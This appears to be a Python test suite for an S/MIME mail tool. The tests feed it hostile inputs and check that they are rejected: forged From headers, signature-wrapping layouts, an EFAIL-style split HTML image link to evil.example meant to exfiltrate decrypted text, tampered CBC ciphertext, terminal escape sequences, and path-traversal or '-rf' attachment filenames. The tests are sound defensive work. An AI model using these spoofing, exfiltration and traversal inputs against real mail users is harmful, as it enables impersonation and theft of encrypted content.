#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""Messages that want to be taken for what they are not. Alice really signs; whatever is then done to the message, or was in it when
she signed what others can read in two ways, must not come out as good."""
import base64
import json
import os
import pty
import re
import subprocess
import unittest

from cli.tool import CA, RFC9216, TOOL, ToolTest

ATTACHMENT = b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="


class Attacks(ToolTest):
    def signed(self, eml, *more):
        """Alice signs a whole message as it is; the fields outside are what a reader sees."""
        self.write("in.eml", eml)
        self.run_tool("seal", "--eml", self.path("in.eml"), "--sign", *self.alice(), "--protect-headers", "off", "-o", self.path("signed.eml"),
                      *more)
        return self.read("signed.eml")

    def letter(self, body=b"Content-Type: text/plain\r\n\r\nHello\r\n", extra=b""):
        return (b"From: Alice <alice@smime.example>\r\nTo: bob@smime.example\r\nSubject: Hello\r\n" + extra +
                b"Date: Sun, 22 Nov 2026 12:00:00 +0000\r\nMessage-ID: <1@smime.example>\r\nMIME-Version: 1.0\r\n" + body)

    def report(self, message, *more, expect=None):
        self.write("message.eml", message)
        return self.run_tool("open", self.path("message.eml"), *self.bob(), "--trust", CA, "--json", *more, expect=expect).json

    def not_good(self, message, *codes):
        report = self.report(message)
        self.assertIn(report["summary"]["signed"], ("unverified", "none", "bad"))
        self.assertIn(report["summary"]["state"], ("unprotected", "encrypted-unverified"))
        for signer in (s for layer in report["layers"] if not layer["errant"] for s in layer["signers"]):
            self.assertNotEqual(signer["verdict"], "good")
        for code in codes:
            self.assertIn(code, [problem["code"] for problem in report["problems"]])
        self.run_tool("open", self.path("message.eml"), *self.bob(), "--trust", CA, "--require", "signed", expect=1)
        return report

    def test_what_is_done_to_the_header_of_a_signed_message(self):
        good = self.signed(self.letter())
        self.assertEqual(self.report(good)["summary"]["state"], "verified")
        mine = b"From: Alice <alice@smime.example>"
        for name, outer, codes in (
                ("two From", mine + b"\r\nFrom: eve@evil.example", ["duplicate-from"]),
                ("another first", b"From: eve@evil.example\r\n" + mine, ["duplicate-from"]),
                ("folded name", b"From : eve@evil.example\r\n" + mine, ["duplicate-from", "blank-before-colon"]),
                ("several authors, no Sender", b"From: alice@smime.example, eve@evil.example", ["several-from"]),
                ("several authors, the other first", b"From: eve@evil.example, alice@smime.example", ["several-from"]),
                ("several authors, a Sender", b"From: eve@evil.example, alice@smime.example\r\nSender: alice@smime.example",
                 ["several-from"]),
                ("address as a name", b"From: \"alice@smime.example\" <eve@evil.example>", []),
                ("address as a name without quotes", b"From: alice@smime.example <eve@evil.example>", ["ambiguous-from"]),
                ("encoded address as a name", b"From: =?utf-8?q?alice=40smime=2Eexample?= <eve@evil.example>", []),
                ("address in a comment", b"From: eve@evil.example (alice@smime.example)", []),
                ("address after the address", b"From: <eve@evil.example> <alice@smime.example>", ["ambiguous-from"]),
                ("route", b"From: <@alice@smime.example:eve@evil.example>", []),
                ("group", b"From: alice@smime.example: eve@evil.example;", []),
                ("group with her in it", b"From: friends: alice@smime.example;", []),
                ("NUL", b"From: alice@smime.example\0@evil.example", ["nul"]),
                ("encoded NUL", b"From: =?utf-8?q?alice=00?= <alice@smime.example>", ["bad-encoded-word"]),
                ("encoded line end", b"From: =?utf-8?b?YWxpY2VAc21pbWUuZXhhbXBsZQ0KRnJvbTogZXZl?= <alice@smime.example>",
                 ["bad-encoded-word"]),
                ("quote without end", b"From: \"Alice <alice@smime.example>", []),
                ("nobody", b"From: ", []),
                ("none", b"X-From: alice@smime.example", []),
                ("homograph", "From: alice@smіme.example".encode(), []),
                ("bare CR", b"From: alice@smime.example\rFrom: eve@evil.example", ["bare-cr"]),
                ("bare LF", b"From: alice@smime.example\nFrom: eve@evil.example", ["duplicate-from", "bare-lf"]),
                ("two Subjects", mine + b"\r\nSubject: Pay", ["duplicate-subject"]),
                ("overlong", mine + b"\r\nX: " + b"x" * 2000, ["overlong-line"]),
                ("no header line", mine + b"\r\nnonsense", ["bad-header-line"]),
                ("blanks that fold", mine + b"\r\n \t \r\nX: y", ["blank-header-line"]),
                ("two types", mine + b"\r\nContent-Type: text/plain", ["duplicate-content-type"]),
                ("an encoded root", mine + b"\r\nContent-Transfer-Encoding: base64", ["encoded-multipart"]),
                ("two encodings", mine + b"\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64",
                 ["duplicate-content-transfer-encoding"])):
            with self.subTest(name):
                self.assertEqual(good.count(mine), 1)
                self.not_good(good.replace(mine, outer), *codes)

    def test_what_alice_signs_and_others_read_otherwise(self):
        for name, body, codes in (
                ("two types", b"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nHello<!--\r\n", ["duplicate-content-type"]),
                ("unknown encoding", b"Content-Type: text/plain\r\nContent-Transfer-Encoding: x-own\r\n\r\nHello\r\n",
                 ["unknown-transfer-encoding"]),
                ("base64 with a tail", b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nSGk=SGVsbG8=\r\n", ["bad-base64"]),
                ("a switching charset", b"Content-Type: text/plain; charset=utf-7\r\n\r\n+AEg-ello\r\n", ["switching-charset"]),
                ("UTF-16", b"Content-Type: text/plain; charset=utf-16\r\nContent-Transfer-Encoding: base64\r\n\r\nSABlAGwAbABvAA==\r\n",
                 ["switching-charset"]),
                ("an unknown charset", b"Content-Type: text/plain; charset=x-own\r\n\r\nHello\r\n", ["unknown-charset"]),
                ("no type", b"Content-Type: text\r\n\r\nHello\r\n", ["bad-content-type"]),
                ("two boundaries", b"Content-Type: multipart/mixed; boundary=a; boundary=b\r\n\r\n--a\r\n\r\nOne\r\n--a--\r\n--b\r\n\r\nTwo\r\n--b--\r\n",
                 ["duplicate-parameter"]),
                ("a boundary in two forms", b"Content-Type: multipart/mixed; boundary=a; boundary*=us-ascii''b\r\n\r\n--a\r\n\r\nOne\r\n--a--\r\n",
                 ["duplicate-parameter"]),
                ("a boundary in a boundary", b"Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: multipart/mixed; boundary=ab\r\n"
                 b"\r\n--ab\r\n\r\nOne\r\n--ab--\r\n--a--\r\n", ["ambiguous-boundary"]),
                ("a boundary line with more", b"Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nOne\r\n--ax\r\n\r\nTwo\r\n--a--\r\n",
                 ["ambiguous-boundary"]),
                ("no boundary", b"Content-Type: multipart/mixed\r\n\r\n--a\r\n\r\nOne\r\n--a--\r\n", ["missing-boundary"]),
                ("no end", b"Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nOne\r\n", ["unclosed-multipart"]),
                ("NULs", b"Content-Type: text/plain\r\n\r\nHello\0\r\n", ["nul"])):
            with self.subTest(name):
                # Signed by another program: what is signed is what stands there, whatever it is.
                self.write("in.txt", body)
                done = subprocess.run(
                    ["openssl", "smime", "-sign", "-binary", "-nodetach", "-in", self.path("in.txt"), "-signer", self.certificate(),
                     "-inkey", self.key(), "-outform", "DER"], capture_output=True, check=True, cwd=self.folder)
                blob = base64.encodebytes(done.stdout).replace(b"\n", b"\r\n")
                self.not_good(self.letter(b"Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n"
                                          b"Content-Transfer-Encoding: base64\r\n\r\n" + blob), *codes)

    def certificate(self):
        return os.path.join(RFC9216, "alice.sign.crt")

    def key(self):
        path = self.path("alice.key")
        if not os.path.exists(path):
            subprocess.run(["openssl", "pkcs12", "-legacy", "-in", os.path.join(RFC9216, "alice.p12"), "-nocerts", "-nodes", "-passin",
                            "pass:alice", "-out", self.path("keys.pem")], check=True, capture_output=True)
            certificate = subprocess.run(["openssl", "x509", "-in", self.certificate(), "-pubkey", "-noout"], check=True,
                                         capture_output=True).stdout
            for number, pem in enumerate(re.findall("-----BEGIN PRIVATE KEY-----.*?-----END PRIVATE KEY-----\n",
                                                    self.read("keys.pem").decode(), re.S)):
                one = self.write(f"key{number}.pem", pem)
                public = subprocess.run(["openssl", "pkey", "-in", one, "-pubout"], check=True, capture_output=True).stdout
                if public == certificate:
                    os.rename(one, path)
        return path

    def test_a_signature_that_is_wrapped_lends_nothing(self):
        good = self.signed(self.letter())
        entity = good[good.index(b"Content-Type: multipart/signed"):]
        head = self.letter(b"")
        lie = b"Content-Type: text/html\r\n\r\n<p>Pay eve</p>\r\n"
        for name, body in (
                ("beside", b"Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n" + lie + b"--w\r\n" + entity + b"\r\n--w--\r\n"),
                ("after", b"Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n" + entity + b"\r\n--w\r\n" + lie + b"--w--\r\n"),
                ("alternative", b"Content-Type: multipart/alternative; boundary=w\r\n\r\n--w\r\n" + entity + b"\r\n--w\r\n" + lie + b"--w--\r\n"),
                ("related", b"Content-Type: multipart/related; boundary=w\r\n\r\n--w\r\n" + lie + b"--w\r\n" + entity + b"\r\n--w--\r\n"),
                ("forwarded", b"Content-Type: message/rfc822\r\n\r\n" + good),
                ("in a multipart by itself", b"Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n" + entity + b"\r\n--w--\r\n")):
            with self.subTest(name):
                report = self.not_good(head + body)
                self.assertEqual(report["summary"], {"state": "unprotected", "encrypted": False, "signed": "none"})
                self.assertTrue(all(layer["errant"] for layer in report["layers"]))

    def test_multipart_signed_takes_two_parts(self):
        good = self.signed(self.letter())
        boundary = re.search(rb'boundary="?([^";\r]+)', good).group(1)
        third = b"Content-Type: text/plain\r\n\r\nMore\r\n"
        first = good.index(b"--" + boundary + b"\r\n")
        second = good.index(b"--" + boundary + b"\r\n", first + 1)
        for name, at in (("before", first), ("between", second), ("after", good.index(b"--" + boundary + b"--"))):
            with self.subTest(name):
                self.not_good(good[:at] + b"--" + boundary + b"\r\n" + third + good[at:], "signed-parts")

    def test_an_encrypted_part_beside_plain_ones_is_errant_and_joined_to_nothing(self):
        self.write("secret.eml", self.letter(b"Content-Type: text/plain\r\n\r\nThe secret\r\n"))
        self.run_tool("seal", "--eml", self.path("secret.eml"), "--encrypt", *self.alice(), "--recipient-key",
                      os.path.join(RFC9216, "bob.encrypt.crt"), "--protect-headers", "off", "-o", self.path("sealed.eml"))
        sealed = self.read("sealed.eml")
        entity = sealed[sealed.index(b"Content-Type: application/pkcs7-mime"):]
        html = b"Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/"
        report = self.report(b"From: eve@evil.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n" + html +
                             b"\r\n--w\r\n" + entity + b"\r\n--w\r\nContent-Type: text/html\r\n\r\n\">\r\n--w--\r\n", expect=0)
        self.assertEqual(report["summary"], {"state": "unprotected", "encrypted": False, "signed": "none"})
        self.assertEqual([(part["path"], part["encrypted"]) for part in report["parts"]], [("1.1", False), ("1.2.1", True), ("1.3", False)])
        view = self.run_tool("open", self.path("message.eml"), *self.bob()).text
        self.assertNotIn("The secret", view)
        # Nor is it taken along into an answer: covert content (RFC 9787, 6.2.2.1).
        answer = self.run_tool("compose", "--in-reply-to", self.path("message.eml"), *self.bob(), "--from", "bob@smime.example", "--text", "x")
        self.assertNotIn("secret", answer.text)
        self.assertIn("encrypted", answer.errors)

    def test_a_changed_cipher_without_integrity_gives_nothing_away(self):
        self.write("secret.eml", self.letter(b"Content-Type: text/plain\r\n\r\n" + b"The secret\r\n" * 20))
        self.run_tool("seal", "--eml", self.path("secret.eml"), "--encrypt", "--cipher", "aes-128-cbc", *self.alice(), "--recipient-key",
                      os.path.join(RFC9216, "bob.encrypt.crt"), "--no-legacy-display", "-o", self.path("sealed.eml"))
        sealed = self.read("sealed.eml")
        head, body = sealed.split(b"\r\n\r\n", 1)
        blob = bytearray(base64.b64decode(body))
        for place in (None, len(blob) - 100):
            if place:
                blob[place] ^= 1
            message = head + b"\r\n\r\n" + base64.encodebytes(bytes(blob)).replace(b"\n", b"\r\n")
            report = self.report(message, "--extract", self.path("out"), "-o", self.path("payload"), expect=1)
            self.assertEqual(report["layers"][0]["result"], "unauthenticated")
            self.assertIn("withheld", [problem["code"] for problem in report["problems"]])
            self.assertFalse(os.path.exists(self.path("out")) or os.path.exists(self.path("payload")))
            self.assertNotIn("The secret", json.dumps(report))
            report = self.report(message, "--allow-unauthenticated", expect=0)
            self.assertIn("unauthenticated", [problem["code"] for problem in report["problems"]])
            self.report(message, "--allow-unauthenticated", "--require", "authenticated", expect=1)


class Terminal(ToolTest):
    EVIL = ("\x1b[2J\x1b]0;owned\x07", "\u202egpj.exe", "\u009b31m", "\x08\x08", "\r over")

    def evil(self):
        words = [b"=?utf-8?b?" + base64.b64encode(one.encode()) + b"?=" for one in self.EVIL]
        names = "".join(self.EVIL[:2])
        return (b"From: " + words[0] + b" <a@example.org>\r\nTo: " + words[1] + b" <b@example.org>\r\nSubject: x" + words[2] + b"\r\n " + words[1] +
                b"\r\nDate: Sun, 22 Nov 2026 12:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
                base64.encodebytes(("Text " + " ".join(self.EVIL)).encode()).replace(b"\n", b"\r\n") + b"--b\r\n" +
                b"Content-Type: application/octet-stream; x=\"\x1b[1m\"\r\nContent-Disposition: attachment; filename*=utf-8''" +
                "".join(f"%{octet:02X}" for octet in names.encode()).encode() + b"\r\n\r\nx\r\n--b--\r\n")

    def on_a_terminal(self, *words, **environment):
        ours, theirs = pty.openpty()
        with subprocess.Popen([TOOL, *words], stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs, cwd=self.folder,
                              env={**self.environment, "TERM": "xterm", **environment}) as child:
            os.close(theirs)
            shown = b""
            try:
                while chunk := os.read(ours, 65536):
                    shown += chunk
            except OSError:
                pass
            child.wait(60)
        os.close(ours)
        return shown.decode()

    def test_nothing_in_a_message_acts_on_the_terminal(self):
        self.write("evil.eml", self.evil())
        for words in (["open", "evil.eml"], ["open", "evil.eml", "--json"], ["inspect", "evil.eml"], ["inspect", "evil.eml", "--json"],
                      ["open", "evil.eml", "--extract", "out"]):
            shown = self.on_a_terminal(*words).replace("\r\n", "\n")
            # Our own colours aside.
            rest = re.sub(r"\x1b\[(?:0|1|31|32|33)m", "", shown)
            with self.subTest(words):
                self.assertFalse(set(rest) & set("\x1b\x07\x08\r\u202e\u009b"), repr(rest))
        self.assertIn("\\x1B[2J", self.on_a_terminal("open", "evil.eml"))
        self.assertEqual(json.loads(self.on_a_terminal("open", "evil.eml", "--json"))["headers"]["from"][0]["name"], self.EVIL[0])

    def test_colour_is_for_terminals_that_want_it(self):
        self.write("evil.eml", self.evil())
        self.assertIn("\x1b[33m", self.on_a_terminal("open", "evil.eml"))
        self.assertNotIn("\x1b", self.on_a_terminal("open", "evil.eml", NO_COLOR="1"))
        self.assertNotIn("\x1b", self.on_a_terminal("open", "evil.eml", TERM="dumb"))
        self.assertNotIn("\x1b", self.run_tool("open", "evil.eml").text)


class Extraction(ToolTest):
    NAMES = ("../../up", "/etc/passwd", "a/b\\c", "..", ".", "", "-rf", ".profile", "con\x07trol", "\u202egpj.exe", "x" * 400 + ".pdf", "same", "SAME",
             "same", "C:evil", "trailing. . ", "link", "new\nline", "%2e%2e%2fup")

    def message(self):
        parts = b""
        for number, name in enumerate(self.NAMES):
            parts += (b"--b\r\n" + ATTACHMENT[:-len("filename=")] + b"filename*=utf-8''" +
                      "".join(f"%{octet:02X}" for octet in name.encode()).encode() + b"\r\n\r\n" + str(number).encode() + b"\r\n")
        return (b"From: a@example.org\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" + parts + b"--b--\r\n")

    def test_names_stay_in_the_folder_and_nothing_there_is_touched(self):
        self.write("m.eml", self.message())
        os.mkdir(self.path("out"))
        self.write("out/same", "mine")
        self.write("victim", "mine")
        os.symlink(self.path("victim"), self.path("out/link"))
        os.symlink(self.path("nowhere"), self.path("out/passwd"))
        os.symlink("/nowhere", self.path("out/_etc_passwd"))
        before = {name for name in os.listdir(self.folder)}
        self.run_tool("open", self.path("m.eml"), "--extract", self.path("out"))
        self.assertEqual({name for name in os.listdir(self.folder)}, before)
        self.assertEqual((self.read("victim"), self.read("out/same")), (b"mine", b"mine"))
        files = {}
        for entry in os.scandir(self.path("out")):
            if entry.is_symlink() or entry.name == "same":
                continue
            self.assertTrue(entry.is_file())
            self.assertRegex(entry.name, r"^[^./\\:\x00-\x1f\x7f\u202a-\u202e-][^/\\:\x00-\x1f\x7f\u202a-\u202e]*$")
            self.assertLessEqual(len(entry.name.encode()), 255)
            self.assertEqual(entry.stat().st_mode & 0o777, 0o600)
            files[self.read("out/" + entry.name)] = entry.name
        self.assertEqual(len(files), len(self.NAMES))
        self.assertTrue(files[str(self.NAMES.index("\u202egpj.exe")).encode()].endswith("gpj.exe"))
        self.assertEqual(len({name.lower() for name in files.values()}), len(self.NAMES))

    def test_a_second_time_nothing_is_overwritten(self):
        self.write("m.eml", self.message())
        self.run_tool("open", self.path("m.eml"), "--extract", self.path("out"))
        first = {name: self.read("out/" + name) for name in os.listdir(self.path("out"))}
        self.run_tool("open", self.path("m.eml"), "--extract", self.path("out"))
        self.assertEqual(len(os.listdir(self.path("out"))), 2 * len(first))
        self.assertEqual({name: self.read("out/" + name) for name in first}, first)

    def test_a_folder_that_is_a_link_to_a_folder_is_the_users_own(self):
        self.write("m.eml", self.message())
        os.mkdir(self.path("real"))
        os.symlink("real", self.path("out"))
        self.run_tool("open", self.path("m.eml"), "--extract", self.path("out"))
        self.assertEqual(len(os.listdir(self.path("real"))), len(self.NAMES))


class Outputs(ToolTest):
    """After a failure there is no new file, and an old one is as it was; also when the report cannot be printed."""

    def full(self, *words, files=()):
        for name in files:
            self.write(name, "old")
        before = sorted(os.listdir(self.folder))
        with open("/dev/full", "wb") as full:
            done = subprocess.run([TOOL, *words], stdout=full, stderr=subprocess.PIPE, env=self.environment, cwd=self.folder, check=False)
        self.assertEqual(done.returncode, 74, done.stderr)
        self.assertEqual(sorted(os.listdir(self.folder)), before)
        for name in files:
            self.assertEqual(self.read(name), b"old")

    def test_seal(self):
        self.full("seal", *self.draft(), *self.sealing(), "--json", "-o", "new.eml")
        self.full("seal", *self.draft(), *self.sealing(), "--json", "-o", "old.eml", files=["old.eml"])
        self.full("seal", *self.draft("--bcc", "alice@smime.example"), *self.sealing(), "--recipient-key",
                  os.path.join(RFC9216, "alice.encrypt.crt"), "--json", "-o", "folder")

    def test_open(self):
        self.sealed()
        for more in ([], ["--json"]):
            self.full("open", "sealed.eml", *self.bob(), "--trust", CA, "-o", "new.payload", "--extract", "new.folder", *more)
            self.full("open", "sealed.eml", *self.bob(), "--trust", CA, "-o", "old.payload", *more, files=["old.payload"])

    def test_vectors(self):
        self.write("empty.json", json.dumps({"format": 1, "cases": []}))
        self.full("vectors", os.path.join(RFC9216, "manifest.json"), "--filter", "*", "--json", "--junit", "new.xml")

    def test_the_report_and_the_file_are_both_there_when_all_goes_well(self):
        self.assertEqual(self.run_tool("seal", *self.draft(), *self.sealing(), "--json", "-o", "new.eml").json["format"], 1)
        self.run_tool("open", "new.eml", *self.bob(), "--trust", CA, "-o", "payload", "--extract", "parts")
        self.assertIn(b"HP-Outer: Subject: [...]", self.read("payload"))
        self.assertEqual(len(os.listdir(self.path("parts"))), 1)


if __name__ == "__main__":
    unittest.main()
